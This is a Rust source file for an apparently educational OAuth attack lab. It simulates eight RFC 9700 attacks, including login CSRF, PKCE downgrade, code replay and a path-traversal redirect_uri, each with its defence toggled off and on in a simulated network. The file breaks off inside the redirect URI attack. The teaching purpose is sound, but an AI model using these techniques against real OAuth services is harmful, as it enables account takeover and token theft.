//! The attack lab: eight attacks from RFC 9700, each run for real through
//! the in-page network, once with its defence off and once with it on.
//! The attacker's requests are on the trace like anyone's; the outcome is
//! read from the responses, never assumed.

use serde_json::Value;

use super::attacker::Forward;
use super::browser::Browser;
use super::client::{Client, ClientSettings};
use super::compare::{code_scenario, implicit_scenario};
use super::flows::code::authorization_code;
use super::flows::steps::{
    api_url, call_api_again_later, consent_request, hidden_field, keep_pending_in_browser,
    page_text, sign_in_and_consent,
};
use super::network::{ATTACKER, Network, attacker_browses, from_browser, navigate};
use super::run::play;
use super::scenario::{Scenario, USERS, UserChoices};
use super::trace::{Exchange, Party, RfcRef};
use crate::channel::Channel;
use crate::form::decode_form;
use crate::http::{Request, Response, Url};
use crate::jose::SigningKey;
use crate::rng::SeededRng;
use crate::server::{PkcePolicy, RedirectMatching};

/// An attack of the lab.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Attack {
    LoginCsrf,
    CodeInterception,
    PkceDowngrade,
    CodeReplay,
    RedirectUriManipulation,
    RefreshTokenTheft,
    MixUp,
    ImplicitLeakage,
}

impl Attack {
    pub const ALL: [Attack; 8] = [
        Self::LoginCsrf,
        Self::CodeInterception,
        Self::PkceDowngrade,
        Self::CodeReplay,
        Self::RedirectUriManipulation,
        Self::RefreshTokenTheft,
        Self::MixUp,
        Self::ImplicitLeakage,
    ];

    /// The attack's name in a URL.
    pub fn slug(self) -> &'static str {
        match self {
            Self::LoginCsrf => "login-csrf",
            Self::CodeInterception => "code-interception",
            Self::PkceDowngrade => "pkce-downgrade",
            Self::CodeReplay => "code-replay",
            Self::RedirectUriManipulation => "redirect-uri",
            Self::RefreshTokenTheft => "refresh-theft",
            Self::MixUp => "mix-up",
            Self::ImplicitLeakage => "implicit-leakage",
        }
    }

    pub fn from_slug(slug: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|attack| attack.slug() == slug)
    }

    pub fn title(self) -> &'static str {
        match self {
            Self::LoginCsrf => "Login CSRF",
            Self::CodeInterception => "Authorization code interception",
            Self::PkceDowngrade => "PKCE downgrade",
            Self::CodeReplay => "Authorization code replay",
            Self::RedirectUriManipulation => "Redirect URI manipulation",
            Self::RefreshTokenTheft => "Refresh token theft",
            Self::MixUp => "Mix-up",
            Self::ImplicitLeakage => "Implicit grant token leakage",
        }
    }

    /// How the attack works, and why the defence stops it.
    pub fn explanation(self) -> &'static str {
        match self {
            Self::LoginCsrf => {
                "The attacker signs in with her own account and stops before her browser \
                 follows the redirect, keeping a code for her account. She then makes the \
                 victim's browser open the client's callback with that code, so the client \
                 signs the victim in as Mallory, and whatever the victim saves lands in \
                 Mallory's account. A client that sends a fresh state and checks it refuses a \
                 callback it never asked for. This client does not use PKCE, so that state is \
                 the only defence in play: with PKCE, having no verifier for this code would \
                 also make it refuse (RFC 9700 section 4.7.1)."
            }
            Self::CodeInterception => {
                "A native app receives its redirect on a private-use URI scheme, and any other \
                 app on the phone can register the same scheme. The malicious app gets the \
                 code and redeems it itself: a public client has no secret to prove who it is. \
                 With PKCE the token request needs the code_verifier, which never left the \
                 real app, so the stolen code is worthless."
            }
            Self::PkceDowngrade => {
                "The attacker sits on the way to the authorization server (a malicious \
                 extension, say) and strips code_challenge from the request, so the code that \
                 comes back is bound to nothing; then it intercepts the code as in the native \
                 app attack. A server that treats PKCE as optional goes along. A server that \
                 requires PKCE with S256 refuses the stripped request, so there is no code to \
                 steal (RFC 9700 section 4.8 describes the same flaw exploited by code \
                 injection)."
            }
            Self::CodeReplay => {
                "The code sits in the callback's address, so it ends up in the history (or a \
                 Referer). The attacker finds it after the client has used it and redeems it \
                 again; this client uses no PKCE, so nothing else ties the code to it. A server \
                 that accepts each code once refuses the replay and, as RFC 6749 advises, \
                 revokes the tokens the code already produced: it cannot tell which redemption \
                 was the attacker's."
            }
            Self::RedirectUriManipulation => {
                "The attacker sends the victim a link to the real authorization server for the \
                 real client, with its own PKCE challenge and a redirect_uri that merely starts \
                 with the registered one: https://spa.example/callback/../uploads/mallory.html. \
                 A server that matches by prefix accepts it; the browser resolves the .. and \
                 delivers the code to a page Mallory uploaded to the client's site, whose script \
                 sends it to her. With exact string matching the server shows an error page \
                 and redirects nowhere."
            }
            Self::RefreshTokenTheft => {
                "A script injected into the app reads the refresh token from the browser's \
                 storage and sends it to the attacker, who can then mint access tokens for as \
                 long as the refresh token lives. With rotation each refresh token works once: \
                 when the client presents the one the attacker already used, the server sees \
                 the reuse, revokes the whole family, and the attacker's tokens die with it."
            }
            Self::MixUp => {
                "The client works with two authorization servers and the user picks the \
                 attacker's. That server sends the browser on to the honest one, where the user \
                 signs in as usual; the code comes back to the same redirect_uri, and the \
                 client, believing it talks to the attacker's server, sends the code and its \
                 PKCE verifier to the attacker's token endpoint. PKCE cannot help: the client \
                 itself hands the verifier over. The iss parameter names the server that \
                 really answered, and a client that checks it refuses the response."
            }
            Self::ImplicitLeakage => {
                "With the implicit grant the access token arrives in the callback's fragment, \
                 where every script on the page can read it; the analytics script reports the \
                 page's address home, token included, and whoever runs or breaches that site \
                 calls the API with it. With the code flow and PKCE, the same page, script and \
                 history see only the code, which works once and only with the verifier the \
                 client kept."
            }
        }
    }

    /// The defence the toggle switches on.
    pub fn defence(self) -> &'static str {
        match self {
            Self::LoginCsrf => "Client sends and checks state",
            Self::CodeInterception => "Client uses PKCE (S256)",
            Self::PkceDowngrade => "Server requires PKCE with S256",
            Self::CodeReplay => "Server accepts a code once and revokes on reuse",
            Self::RedirectUriManipulation => "Server compares redirect_uri exactly",
            Self::RefreshTokenTheft => "Server rotates refresh tokens and detects reuse",
            Self::MixUp => "Client checks iss in the response",
            Self::ImplicitLeakage => "Authorization code with PKCE instead of the implicit grant",
        }
    }

    /// The section of RFC 9700 on this attack or its defence.
    pub fn rfc9700(self) -> RfcRef {
        match self {
            Self::LoginCsrf => RfcRef::new(9700, "4.7"),
            Self::CodeInterception => RfcRef::new(9700, "2.1.1"),
            Self::PkceDowngrade => RfcRef::new(9700, "4.8"),
            Self::CodeReplay => RfcRef::new(9700, "4.3.1"),
            Self::RedirectUriManipulation => RfcRef::new(9700, "4.1"),
            Self::RefreshTokenTheft => RfcRef::new(9700, "4.14.2"),
            Self::MixUp => RfcRef::new(9700, "4.4"),
            Self::ImplicitLeakage => RfcRef::new(9700, "2.1.2"),
        }
    }

    /// Every section that bears on the attack, RFC 9700's first.
    pub fn refs(self) -> Vec<RfcRef> {
        let more: &[RfcRef] = match self {
            Self::LoginCsrf => &[RfcRef::new(9700, "4.7.1"), RfcRef::new(6749, "10.12")],
            Self::CodeInterception => &[RfcRef::new(7636, "1"), RfcRef::new(8252, "8.1")],
            Self::PkceDowngrade => &[RfcRef::new(9700, "4.8.2"), RfcRef::new(7636, "4.4.1")],
            Self::CodeReplay => &[
                RfcRef::new(9700, "4.2.4"),
                RfcRef::new(6749, "4.1.2"),
                RfcRef::new(6749, "10.5"),
            ],
            Self::RedirectUriManipulation => &[
                RfcRef::new(9700, "4.1.3"),
                RfcRef::new(6749, "3.1.2.3"),
                RfcRef::new(3986, "5.2.4"),
            ],
            Self::RefreshTokenTheft => &[RfcRef::new(6749, "10.4")],
            Self::MixUp => &[RfcRef::new(9700, "4.4.2"), RfcRef::new(9207, "2.4")],
            Self::ImplicitLeakage => &[RfcRef::new(9700, "4.3.2"), RfcRef::new(6749, "10.16")],
        };
        std::iter::once(self.rfc9700())
            .chain(more.iter().copied())
            .collect()
    }
}

/// One run of an attack.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackRun {
    pub attack: Attack,
    pub defended: bool,
    pub trace: Vec<Exchange>,
    pub outcome: Outcome,
}

/// How an attack ended, read from the responses.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    /// The attack worked: `step` is the exchange where the attacker gets
    /// the resource; `gained` says what, in a sentence, with the data.
    Succeeded { step: usize, gained: String },
    /// A defence stopped it: `step` is the exchange whose response refuses
    /// it, `error` the error as the protocol states it.
    Stopped { step: usize, error: String },
}

impl Outcome {
    pub fn step(&self) -> usize {
        match self {
            Self::Succeeded { step, .. } | Self::Stopped { step, .. } => *step,
        }
    }

    pub fn succeeded(&self) -> bool {
        matches!(self, Self::Succeeded { .. })
    }
}

/// How the attacker downgrades PKCE on the way to the server.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Downgrade {
    /// Remove code_challenge and code_challenge_method.
    #[default]
    Strip,
    /// Change code_challenge_method to plain: the challenge, which the
    /// attacker has just read, then works as the verifier.
    ForcePlain,
}

/// Runs `attack` with its defence on or off, signed with the demo key.
pub fn run_attack(attack: Attack, defended: bool, seed: u64) -> AttackRun {
    run_attack_with(attack, defended, seed, demo_key())
}

/// The PKCE downgrade in the chosen variant (`run_attack` strips).
pub fn run_pkce_downgrade(how: Downgrade, defended: bool, seed: u64) -> AttackRun {
    stage(
        Attack::PkceDowngrade,
        defended,
        native_app(seed, downgrade_policy(defended)),
        demo_key(),
        |scenario, network, browser, client| {
            pkce_downgrade(scenario, network, browser, client, how)
        },
    )
}

/// Runs `attack` with its defence on or off, signed with `key`.
pub fn run_attack_with(attack: Attack, defended: bool, seed: u64, key: SigningKey) -> AttackRun {
    match attack {
        Attack::LoginCsrf => {
            let mut scenario = Scenario {
                seed,
                ..Scenario::default()
            };
            // State is the defence in play: no PKCE in this scenario.
            scenario.client.safeguards.use_pkce = false;
            scenario.policy.pkce = PkcePolicy::Optional;
            scenario.client.safeguards.send_state = defended;
            scenario.client.safeguards.check_state = defended;
            stage(attack, defended, scenario, key, login_csrf)
        }
        Attack::CodeInterception => {
            let mut scenario = native_app(seed, PkcePolicy::Optional);
            scenario.client.safeguards.use_pkce = defended;
            stage(attack, defended, scenario, key, code_interception)
        }
        Attack::PkceDowngrade => stage(
            attack,
            defended,
            native_app(seed, downgrade_policy(defended)),
            key,
            |scenario, network, browser, client| {
                pkce_downgrade(scenario, network, browser, client, Downgrade::Strip)
            },
        ),
        Attack::CodeReplay => {
            let mut scenario = Scenario {
                seed,
                ..Scenario::default()
            };
            // No PKCE: only single use stands between the leaked code and
            // the attacker.
            scenario.client.safeguards.use_pkce = false;
            scenario.policy.pkce = PkcePolicy::Optional;
            scenario.policy.single_use_codes = defended;
            scenario.policy.revoke_on_code_reuse = defended;
            stage(attack, defended, scenario, key, code_replay)
        }
        Attack::RedirectUriManipulation => {
            let mut scenario = Scenario {
                seed,
                ..Scenario::default()
            };
            scenario.policy.redirect_matching = if defended {
                RedirectMatching::Exact
            } else {
                RedirectMatching::Prefix
            };
            stage(attack, defended, scenario, key, redirect_uri_manipulation)
        }
        Attack::RefreshTokenTheft => {
            let mut scenario = Scenario {
                seed,
                ..Scenario::default()
            };
            scenario.policy.rotate_refresh_tokens = defended;
            scenario.policy.detect_refresh_reuse = defended;
            stage(attack, defended, scenario, key, refresh_token_theft)
        }
        Attack::MixUp => {
            let mut scenario = Scenario {
                seed,
                ..Scenario::default()
            };
            scenario.client.safeguards.check_issuer = defended;
            stage(attack, defended, scenario, key, mix_up)
        }
        Attack::ImplicitLeakage => {
            let scenario = if defended {
                code_scenario(seed)
            } else {
                implicit_scenario(seed)
            };
            stage(attack, defended, scenario, key, implicit_leakage)
        }
    }
}

fn demo_key() -> SigningKey {
    // The demo key is a constant the crate's own tests load.
    crate::keys::demo_signing_key().expect("the demo signing key loads")
}

/// The server policy of the PKCE downgrade: PKCE optional (and plain
/// accepted), or required with S256 (RFC 9700 section 2.1.1).
fn downgrade_policy(defended: bool) -> PkcePolicy {
    if defended {
        PkcePolicy::RequireS256
    } else {
        PkcePolicy::Optional
    }
}

/// A native app's redirect URI: a private-use scheme (RFC 8252 section 7.1).
pub const NATIVE_REDIRECT_URI: &str = "com.example.app:/callback";

/// A native app (public client) on the user's phone.
fn native_app(seed: u64, pkce: PkcePolicy) -> Scenario {
    let mut scenario = Scenario {
        seed,
        ..Scenario::default()
    };
    scenario.client.client_id = "native-app".into();
    scenario.client.redirect_uri = NATIVE_REDIRECT_URI.into();
    scenario.registration.redirect_uris = vec![NATIVE_REDIRECT_URI.into()];
    scenario.policy.pkce = pkce;
    scenario
}

/// Sets up the network for `scenario`, plays the attack on it, and keeps
/// the trace.
fn stage(
    attack: Attack,
    defended: bool,
    scenario: Scenario,
    key: SigningKey,
    play: impl FnOnce(&Scenario, &mut Network<'_>, &mut Browser, &mut Client) -> Outcome,
) -> AttackRun {
    let mut network = scenario.network(key, Box::new(SeededRng::new(scenario.seed)));
    let mut browser = Browser::new(scenario.referrer_policy);
    let mut client = Client::new(scenario.client.clone());
    let outcome = play(&scenario, &mut network, &mut browser, &mut client);
    AttackRun {
        attack,
        defended,
        trace: network.trace,
        outcome,
    }
}

const ATTACKER_LOGIN: [RfcRef; 2] = [RfcRef::new(9700, "4.7"), RfcRef::new(6749, "10.12")];
const CSRF_CALLBACK: [RfcRef; 2] = [RfcRef::new(6749, "10.12"), RfcRef::new(9700, "4.7.1")];
const INTERCEPT: [RfcRef; 2] = [RfcRef::new(8252, "8.1"), RfcRef::new(7636, "1")];
const STOLEN_CODE: [RfcRef; 2] = [RfcRef::new(7636, "4.6"), RfcRef::new(6749, "4.1.3")];
const STOLEN_TOKEN: [RfcRef; 2] = [RfcRef::new(6750, "5.3"), RfcRef::new(9700, "4.10")];
const DOWNGRADE: [RfcRef; 2] = [RfcRef::new(9700, "4.8"), RfcRef::new(7636, "4.4.1")];
const REPLAY: [RfcRef; 3] = [
    RfcRef::new(6749, "4.1.2"),
    RfcRef::new(6749, "10.5"),
    RfcRef::new(9700, "4.3.1"),
];
const AFTER_REVOCATION: [RfcRef; 2] = [RfcRef::new(6749, "4.1.2"), RfcRef::new(6750, "3.1")];
const PREFIX_LINK: [RfcRef; 2] = [RfcRef::new(9700, "4.1.1"), RfcRef::new(6749, "3.1.2.3")];
const DOT_SEGMENTS: [RfcRef; 2] = [RfcRef::new(3986, "5.2.4"), RfcRef::new(9700, "4.1.1")];
const UPLOADED_SCRIPT: [RfcRef; 1] = [RfcRef::new(9700, "4.1.1")];
const STEAL_REFRESH: [RfcRef; 2] = [RfcRef::new(9700, "4.14"), RfcRef::new(6749, "10.4")];
const ROTATION: [RfcRef; 2] = [RfcRef::new(9700, "4.14.2"), RfcRef::new(6749, "6")];
const MIX_UP: [RfcRef; 2] = [RfcRef::new(9700, "4.4.1"), RfcRef::new(9207, "2")];
const MIX_UP_CALLBACK: [RfcRef; 2] = [RfcRef::new(9207, "2.4"), RfcRef::new(9700, "4.4.2")];
const LEAKED_BY_SCRIPT: [RfcRef; 2] = [RfcRef::new(9700, "2.1.2"), RfcRef::new(9700, "4.3.2")];

/// The error in a response that refuses something, as the protocol
/// states it: an error redirect's `error`, a JSON error body, a Bearer
/// challenge, an error page's message. `None` for a success.
pub(super) fn refusal(response: &Response) -> Option<String> {
    if (200..300).contains(&response.status) {
        return None;
    }
    if response.status == 302 {
        let location = Url::parse(response.headers.get("Location")?).ok()?;
        let mut pairs = location.query_pairs().unwrap_or_default();
        pairs.extend(
            decode_form(location.fragment.as_deref().unwrap_or_default()).unwrap_or_default(),
        );
        let get = |name: &str| {
            pairs
                .iter()
                .find(|(n, _)| n == name)
                .map(|(_, v)| v.clone())
        };
        return get("error")
            .map(|error| format!("{error}: {}", get("error_description").unwrap_or_default()));
    }
    if let Some(body) = response.json_body()
        && body["error"].is_string()
    {
        return Some(super::client::error_from_json(&body).to_string());
    }
    if response.body.contains("<p>") {
        return Some(page_text(response));
    }
    Some(format!("the server answered {}", response.status))
}

/// The index of the latest exchange.
fn last(network: &Network<'_>) -> usize {
    network.trace.len().saturating_sub(1)
}

/// `Err(Stopped)` if the latest exchange's response refuses it.
fn passed(network: &Network<'_>) -> Result<usize, Outcome> {
    let step = last(network);
    match network.trace.get(step).and_then(|e| refusal(&e.response)) {
        Some(error) => Err(Outcome::Stopped { step, error }),
        None => Ok(step),
    }
}

/// The outcome of the attacker's API call, just made.
fn api_outcome(network: &Network<'_>, what: impl FnOnce(&Value) -> String) -> Outcome {
    match passed(network) {
        Err(stopped) => stopped,
        Ok(step) => {
            let body = network.trace[step].response.json_body().unwrap_or_default();
            Outcome::Succeeded {
                step,
                gained: what(&body),
            }
        }
    }
}

/// "Alice Liddell's profile: {…}", from the API's answer.
fn profile(body: &Value) -> String {
    let name = body["name"].as_str().unwrap_or("someone");
    format!("{name}'s profile from the API: {body}")
}

/// The attacker calls the API with a stolen access token.
pub(super) fn attacker_calls_api(
    network: &mut Network<'_>,
    token: &str,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Response {
    let request = Request::get(api_url()).with_header("Authorization", format!("Bearer {token}"));
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        rfc_refs,
    )
}

/// The attacker redeems a code at the honest token endpoint as the
/// (public) client would: client_id, no secret, and a verifier if it has
/// one.
pub(super) fn attacker_redeems_code(
    network: &mut Network<'_>,
    code: &str,
    redirect_uri: &str,
    client_id: &str,
    verifier: Option<&str>,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Response {
    let mut form = vec![
        ("grant_type", "authorization_code"),
        ("code", code),
        ("redirect_uri", redirect_uri),
        ("client_id", client_id),
    ];
    if let Some(verifier) = verifier {
        form.push(("code_verifier", verifier));
    }
    let request = Request::post_form(network.server.endpoint("/token"), &form);
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        rfc_refs,
    )
}

/// The attacker refreshes with a stolen refresh token.
fn attacker_refreshes(
    network: &mut Network<'_>,
    refresh_token: &str,
    client_id: &str,
    explanation: &str,
) -> Response {
    let request = Request::post_form(
        network.server.endpoint("/token"),
        &[
            ("grant_type", "refresh_token"),
            ("refresh_token", refresh_token),
            ("client_id", client_id),
        ],
    );
    network.send(
        Party::Attacker,
        Channel::Back,
        false,
        request,
        explanation,
        &ROTATION,
    )
}

/// A URL on the attacker's site.
fn attacker_url(path: &str) -> Url {
    Url {
        origin: ATTACKER.into(),
        path: path.into(),
        query: None,
        fragment: None,
    }
}

/// The value of `name` in a URL's query.
fn query_param(url: &Url, name: &str) -> Option<String> {
    url.query_pairs()
        .ok()?
        .into_iter()
        .find(|(n, _)| n == name)
        .map(|(_, value)| value)
}

/// The `Location` of a redirect.
fn location(response: &Response) -> Option<Url> {
    response
        .headers
        .get("Location")
        .and_then(|value| Url::parse(value).ok())
}

/// What the client's callback page answers: its usual page, or, when the
/// client refuses the response, an error page saying why.
fn callback_page(refused: Option<&str>) -> Response {
    let body = match refused {
        None => "<!doctype html><title>App</title><p>Signing you in…</p>".to_owned(),
        Some(error) => format!(
            "<!doctype html><title>App</title><p>Sign-in failed: {}.</p>",
            crate::http::escape_html(error)
        ),
    };
    Response::new(if refused.is_some() { 400 } else { 200 })
        .with_header("Content-Type", "text/html; charset=utf-8")
        .with_body(body)
}

/// A 1. Login CSRF (RFC 9700 section 4.7).
fn login_csrf(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    let issuer = network.server.issuer_id();
    // Mallory uses the client's public parameters in her own browser,
    // with a state of her own.
    let mut mallory = Client::new(ClientSettings {
        safeguards: super::client::Safeguards {
            use_pkce: false,
            ..Default::default()
        },
        ..scenario.client.clone()
    });
    let mut own_browser = Browser::default();
    let Ok(authorize) =
        mallory.authorization_url(&network.server.endpoint("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    let page = attacker_browses(
        network,
        &mut own_browser,
        Request::get(authorize),
        "Mallory starts a login at the real client's authorization server, in her own browser.",
        &ATTACKER_LOGIN,
    );
    let transaction = hidden_field(&page.body, "transaction");
    let (username, password, _) = USERS[2];
    let consent_page = attacker_browses(
        network,
        &mut own_browser,
        Request::post_form(
            network.server.endpoint("/login"),
            &[
                ("transaction", transaction.as_str()),
                ("username", username),
                ("password", password),
            ],
        ),
        "She signs in with her own account, mallory.",
        &ATTACKER_LOGIN,
    );
    let consent = consent_request(
        &network.server.endpoint("/consent"),
        &consent_page,
        &transaction,
        &UserChoices::default(),
    );
    let redirect = attacker_browses(
        network,
        &mut own_browser,
        consent,
        "She approves, and the server redirects to the client's callback with a code for \
         Mallory's account. Her browser does not follow the redirect: she keeps the URL.",
        &ATTACKER_LOGIN,
    );
    let Some(forged) = location(&redirect) else {
        return Outcome::Stopped {
            step: last(network),
            error: refusal(&redirect).unwrap_or_else(|| "no redirect".into()),
        };
    };

    // The victim visits Mallory's page, which sends the browser on to the
    // callback with Mallory's code.
    network
        .attacker
        .pages
        .insert("/".into(), Response::redirect(&forged));
    navigate(
        network,
        browser,
        Request::get(attacker_url("/")),
        "The victim, signed in to nothing in particular, opens a page of Mallory's (a link in \
         a mail, an ad). It redirects the browser to the client's callback with Mallory's code.",
        &ATTACKER_LOGIN,
    );
    let checked = client.handle_callback(&forged, &issuer);
    let refused = checked.as_ref().err().map(ToString::to_string);
    network.next_client_page = Some(callback_page(refused.as_deref()));
    navigate(
        network,
        browser,
        Request::get(forged),
        if scenario.client.safeguards.check_state {
            "The victim's browser opens the callback with Mallory's code. The client checks \
             state: it started no login in this browser, so there is no state to match, and it \
             refuses the response."
        } else {
            "The victim's browser opens the callback with Mallory's code. This client neither \
             sent nor checks state, so it cannot tell that the response answers a request it \
             never made, and it takes the code."
        },
        &CSRF_CALLBACK,
    );
    let code = match checked {
        Ok(code) => code,
        Err(_) => {
            return passed(network)
                .err()
                .unwrap_or_else(|| stopped_here(network));
        }
    };
    if let Err(stopped) = passed(network) {
        return stopped;
    }
    let request = client.code_token_request(&network.server.endpoint("/token"), &code);
    let response = network.send(
        Party::Client,
        Channel::Back,
        false,
        request,
        "The client redeems the code: the tokens it gets are for Mallory's account.",
        &STOLEN_CODE,
    );
    if client
        .accept_token_response(&response, network.clock.now())
        .is_err()
    {
        return passed(network)
            .err()
            .unwrap_or_else(|| stopped_here(network));
    }
    let request = client.api_request(&api_url());
    network.send(
        Party::Client,
        Channel::Back,
        false,
        request,
        "The client loads the signed-in user's profile: the victim's app now shows, and saves \
         to, Mallory's account.",
        &CSRF_CALLBACK,
    );
    api_outcome(network, |body| {
        format!(
            "The victim's app is signed in to the attacker's account ({body}): whatever the \
             victim saves or uploads now goes to Mallory."
        )
    })
}

/// An outcome for a refusal that left no error in the response itself.
fn stopped_here(network: &Network<'_>) -> Outcome {
    Outcome::Stopped {
        step: last(network),
        error: "refused".into(),
    }
}

fn no_randomness(network: &Network<'_>) -> Outcome {
    Outcome::Stopped {
        step: last(network),
        error: "no randomness available".into(),
    }
}

/// The browser runs the login up to the server's redirect back to the
/// client: authorization request, sign-in, consent. `Err` if the server
/// refused the request.
fn victim_signs_in(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    authorize: Url,
    explanation: &str,
    rfc_refs: &[RfcRef],
) -> Result<Response, Outcome> {
    let page = navigate(
        network,
        browser,
        Request::get(authorize),
        explanation,
        rfc_refs,
    );
    passed(network)?;
    if page.status != 200 {
        // A redirect here is an error redirect, which `passed` reported.
        return Err(stopped_here(network));
    }
    sign_in_and_consent(
        scenario,
        network,
        browser,
        &page,
        "Alice approves. The server redirects to the redirect_uri with the code.",
        &[RfcRef::new(6749, "4.1.2")],
    )
    .map_err(|stop| Outcome::Stopped {
        step: last(network),
        error: stop.to_string(),
    })
}

/// A 2. Code interception by an app that claimed the same URI scheme.
fn code_interception(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    network.attacker.origins.push("com.example.app:".into());
    let Ok(authorize) =
        client.authorization_url(&network.server.endpoint("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    let explanation = if client.settings.safeguards.use_pkce {
        "The native app opens the system browser at the authorization endpoint, with a \
         code_challenge made from a verifier it keeps to itself."
    } else {
        "The native app opens the system browser at the authorization endpoint, without PKCE."
    };
    let redirect = match victim_signs_in(
        scenario,
        network,
        browser,
        authorize,
        explanation,
        &[RfcRef::new(8252, "6"), RfcRef::new(7636, "4.3")],
    ) {
        Ok(redirect) => redirect,
        Err(stopped) => return stopped,
    };
    intercept_and_redeem(scenario, network, browser, &redirect, None)
}

/// The redirect goes to the malicious app, which redeems the code and
/// calls the API.
fn intercept_and_redeem(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    redirect: &Response,
    verifier: Option<&str>,
) -> Outcome {
    let Some(callback) = location(redirect) else {
        return stopped_here(network);
    };
    network.attacker.pages.insert(
        callback.path.clone(),
        Response::new(200).with_body("opened"),
    );
    from_browser(
        network,
        browser,
        Request::get(callback),
        false,
        "The browser hands com.example.app:/callback to the operating system, which opens the \
         app registered for that scheme. Two apps claimed it, and the malicious one gets the \
         code.",
        &INTERCEPT,
    );
    let Some(code) = network.attacker.captured("code") else {
        return stopped_here(network);
    };
    let explanation = match verifier {
        Some(_) => {
            "The malicious app redeems the code. It read the challenge in the downgraded \
             request, where plain made challenge and verifier the same, so it sends the \
             challenge as code_verifier."
        }
        None => {
            "The malicious app redeems the code as the real app would: a public client \
             authenticates with its client_id alone. It has no code_verifier to send."
        }
    };
    attacker_redeems_code(
        network,
        &code,
        &scenario.client.redirect_uri,
        &scenario.client.client_id,
        verifier,
        explanation,
        &STOLEN_CODE,
    );
    attacker_uses_tokens(network)
}

/// The attacker, holding a token response at the latest step, calls the
/// API with its access token.
fn attacker_uses_tokens(network: &mut Network<'_>) -> Outcome {
    let step = match passed(network) {
        Ok(step) => step,
        Err(stopped) => return stopped,
    };
    let body = network.trace[step].response.json_body().unwrap_or_default();
    let Some(token) = body["access_token"].as_str() else {
        return stopped_here(network);
    };
    attacker_calls_api(
        network,
        token,
        "The attacker calls the API with the access token it got: a bearer token works for \
         whoever holds it.",
        &STOLEN_TOKEN,
    );
    api_outcome(network, |body| {
        format!("The attacker reads {}", profile(body))
    })
}

/// A 3. PKCE downgrade, then interception as in attack 2.
fn pkce_downgrade(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
    how: Downgrade,
) -> Outcome {
    network.attacker.origins.push("com.example.app:".into());
    let (remove, set) = match how {
        Downgrade::Strip => (
            vec![
                "code_challenge".to_owned(),
                "code_challenge_method".to_owned(),
            ],
            Vec::new(),
        ),
        Downgrade::ForcePlain => (
            Vec::new(),
            vec![("code_challenge_method".to_owned(), "plain".to_owned())],
        ),
    };
    network.attacker.forward_authorize = Some(Forward {
        to: network.server.endpoint("/authorize"),
        remove,
        set,
    });
    // The request the app makes, which reaches the attacker first.
    let Ok(honest) =
        client.authorization_url(&network.server.endpoint("/authorize"), &mut *network.rng)
    else {
        return no_randomness(network);
    };
    let via_attacker = Url {
        origin: ATTACKER.into(),
        ..honest
    };
    navigate(
        network,
        browser,
        Request::get(via_attacker),
        match how {
            Downgrade::Strip => {
                "The app's authorization request, with its S256 code_challenge, passes through \
                 something the attacker controls on the way (a malicious browser extension, \
                 say). It removes code_challenge and code_challenge_method and sends the rest \
                 on."
            }
            Downgrade::ForcePlain => {
                "The app's authorization request passes through something the attacker \
                 controls on the way. It notes the code_challenge and changes \
                 code_challenge_method to plain, so that the challenge itself becomes the \
                 verifier."
            }
        },
        &DOWNGRADE,
    );
    let Some(downgraded) = location(&network.trace[last(network)].response) else {
        return stopped_here(network);
    };
    let redirect = match victim_signs_in(
        scenario,
        network,
        browser,
        downgraded,
        if scenario.policy.pkce == PkcePolicy::RequireS256 {
            "The browser arrives at the authorization server with the downgraded request. This \
             server requires PKCE with S256, so it refuses: an error redirect with \
             invalid_request, and no code is ever issued."
        } else {
            "The browser arrives at the authorization server with the downgraded request. This \
             server treats PKCE as optional (and accepts plain), so it goes along: the sign-in \
             page, and a code bound to no challenge the real app made."
        },
        &DOWNGRADE,
    ) {
        Ok(redirect) => redirect,
        Err(stopped) => return stopped,
    };
    let verifier = match how {
        Downgrade::Strip => None,
        Downgrade::ForcePlain => network.attacker.captured("code_challenge"),
    };
    intercept_and_redeem(scenario, network, browser, &redirect, verifier.as_deref())
}

/// A 4. Code replay from the history, after the client redeemed it.
fn code_replay(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    client: &mut Client,
) -> Outcome {
    if authorization_code(scenario, network, browser, client).is_err() {
        return passed(network)
            .err()
            .unwrap_or_else(|| stopped_here(network));
    }
    let Some(code) = browser
        .history
        .iter()
        .find_map(|url| query_param(url, "code"))
    else {
        return stopped_here(network);
    };
    network.clock.advance(20);
    attacker_redeems_code(
        network,
        &code,
        &scenario.client.redirect_uri,
        &scenario.client.client_id,
        None,
        "Twenty seconds later the attacker, who can read the browser's history (a shared \
         computer, a synced profile), finds the callback address and redeems its code again. \
         The client has used it already.",
        &REPLAY,
    );
    let step = last(network);
    let refused = refusal(&network.trace[step].response);
    match refused {
        None => attacker_uses_tokens(network),
        Some(error) => {
            // The tokens the first redemption issued are revoked: the
            // client's next call shows it.
            let request = client.api_request(&api_url());
            network.send(
                Party::Client,
                Channel::Back,
                false,
                request,
                "The client calls the API again with the token it got from the code. The server \
                 revoked it when the code came back a second time, so the API refuses it.",
                &AFTER_REVOCATION,
            );
            Outcome::Stopped { step, error }
        }
    }
}

/// A 5. Redirect URI manipulation against prefix matching.
fn redirect_uri_manipulation(
    scenario: &Scenario,
    network: &mut Network<'_>,
    browser: &mut Browser,
    _client: &mut Client,
) -> Outcome {
    // Mallory prepares an authorization request for the real client, with
    // her own PKCE pair and a redirect_uri that starts with the registered
    // one but resolves to a page she uploaded to the client's site.
    let registered = scenario
        .registration
        .redirect_uris
        .first()
        .cloned()
        .unwrap_or_default();
    let mut mallory = Client::new(ClientSettings {
        redirect_uri: format!("{registered}/../uploads/mallory.html"),
        ..scenario.client.clone()
